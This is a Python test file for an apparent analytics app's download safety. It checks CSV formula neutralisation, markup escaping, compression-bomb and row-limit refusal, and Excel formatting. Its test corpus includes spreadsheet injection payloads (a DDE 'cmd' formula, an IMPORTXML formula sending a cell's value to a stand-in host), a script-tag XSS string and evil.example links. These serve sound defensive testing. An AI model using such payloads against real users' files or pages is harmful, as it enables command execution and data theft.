"""Hostile text in downloads: spreadsheet formulas are neutralised, numbers are left alone."""

import io

import pandas as pd

from smbcore.safety import csv_bytes, neutralise_formulas

CORPUS = [
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
]


def test_every_formula_in_the_corpus_is_neutralised_and_plain_text_is_not():
    frame = pd.DataFrame({"product_name": CORPUS + ["Red mug", "T-shirt - blue"], "amount": range(-5, 5)})
    read = pd.read_csv(io.BytesIO(csv_bytes(frame)), dtype={"product_name": str})
    assert len(read) == len(frame)  # a carriage return inside a cell does not start a new row
    assert all(v.startswith("'") for v in read["product_name"][: len(CORPUS)])
    assert read["product_name"].tolist()[-2:] == ["Red mug", "T-shirt - blue"]
    assert read["amount"].tolist() == list(range(-5, 5))  # negative numbers stay numbers


def test_headers_index_and_string_dtypes_are_covered_too():
    frame = pd.DataFrame({"=danger": pd.array(["=1+1", None], dtype="string")}, index=["@x", "ok"])
    safe = neutralise_formulas(frame)
    assert list(safe.columns) == ["'=danger"] and safe.iloc[0, 0] == "'=1+1" and pd.isna(safe.iloc[1, 0])
    assert list(safe.index) == ["'@x", "ok"]


def test_markup_in_a_product_name_is_shown_not_run():
    from smbcore.safety import plain_text

    hostile = "<script>alert(1)</script> ![x](http://evil.example/t.png) [win](http://evil.example) $x^2$ **bold**"
    shown = plain_text(hostile)
    import re

    assert re.search(r"(?<!\\)[<>\[\]()!$*]", shown) is None  # every markup character is escaped
    # still there, to be shown as it is (a zero-width space after "http" keeps the address from being linked)
    assert shown.replace("\\", "").replace("\u200b", "") == hostile


def test_compressed_files_that_unpack_too_far_are_refused_plainly(monkeypatch):
    import gzip

    from smbcore.data import reading

    monkeypatch.setattr(reading, "MAX_EXPANDED", 1_000_000)
    bomb = b"order_id,qty\n" + b"1,1\n" * 400_000  # 1.6 MB of rows, tiny once compressed
    for packed, name in ((gzip.compress(bomb), "orders.csv.gz"), (_zipped(bomb), "orders.zip")):
        assert len(packed) < 50_000
        raw = reading.read_raw(packed, name)
        assert raw.frame is None and "unpacks to more than 1 MB" in raw.problems[0].message
    small = b"order_id,qty\n1,1\n"
    assert reading.read_raw(gzip.compress(small), "ok.csv.gz").frame is not None


def _zipped(data: bytes) -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("orders.csv", data)
    return buffer.getvalue()


def test_files_with_more_rows_than_the_app_reads_are_refused_before_parsing():
    from smbcore.data import reading

    limit = reading.MAX_ROWS
    too_many = b"order_id,qty\n" + b"1,1\n" * (limit + 1)
    raw = reading.read_raw(too_many, "orders.csv")
    assert raw.frame is None
    assert (
        f"has about {limit + 1:,} rows" in raw.problems[0].message
        and f"up to {limit:,} rows" in raw.problems[0].message
    )
    # Exactly at the limit, with or without a final line break, the file is read in full.
    for ending in (b"\n", b""):
        at_limit = b"order_id,qty\n" + b"1,1\n" * (limit - 1) + b"1,1" + ending
        assert len(reading.read_raw(at_limit, "orders.csv").frame) == limit


def test_downloads_open_in_excel_with_accents_plain_names_and_sensible_precision():
    from smbcore.labels import plain_frame

    frame = pd.DataFrame(
        {
            "customer_id": ["Café Müller", "=1+1"],
            "monetary": [0.1 + 0.2, 1234.5678],
            "churn_risk": [0.123456789, 1 / 3],
            "recency_days": [12.345678, 0.0],
            "m_score": [5, 1],
            "lift": [-1e-12, 2 / 3],
            "score": [0.000123456, 10.0],
        }
    )
    data = csv_bytes(plain_frame(frame, "€"))
    assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs to read UTF-8
    text = data.decode("utf-8-sig")
    assert "Café Müller" in text and "Net spend (€)" in text and "'=1+1" in text
    header = text.splitlines()[0].split(",")
    assert header == [
        "Customer",
        "Net spend (€)",
        "Risk of no order in 90 days (share)",
        "Days since last order",
        "Spend score (1-5)",
        "lift",
        "score",
    ]
    read = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert read["Net spend (€)"].tolist() == [0.3, 1234.57]
    assert read["Risk of no order in 90 days (share)"].tolist() == [0.123, 0.333]
    assert read["Days since last order"].tolist() == [12.3, 0.0]
    assert read["score"].tolist() == [0.000123, 10.0] and read["lift"].tolist() == [0.0, 0.667]
    import re

    assert not re.search(r"\d\.\d{8,}", text) and "-0.0" not in text  # no 16-decimal floats, no minus zero
